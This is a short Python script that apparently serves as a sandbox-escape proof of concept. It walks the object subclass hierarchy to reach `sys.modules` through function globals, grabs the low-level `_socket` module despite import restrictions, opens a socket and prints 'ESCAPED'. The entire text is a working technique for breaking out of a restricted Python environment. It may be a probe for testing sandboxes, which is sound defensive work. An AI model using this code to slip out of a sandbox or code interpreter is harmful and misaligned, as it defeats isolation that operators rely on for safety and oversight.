for kind in ().__class__.__mro__[1].__subclasses__():
    modules = getattr(getattr(kind.__init__, "__globals__", {}).get("sys"), "modules", {})
    if "_socket" in modules:
        socket = modules["_socket"]
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        print("ESCAPED")
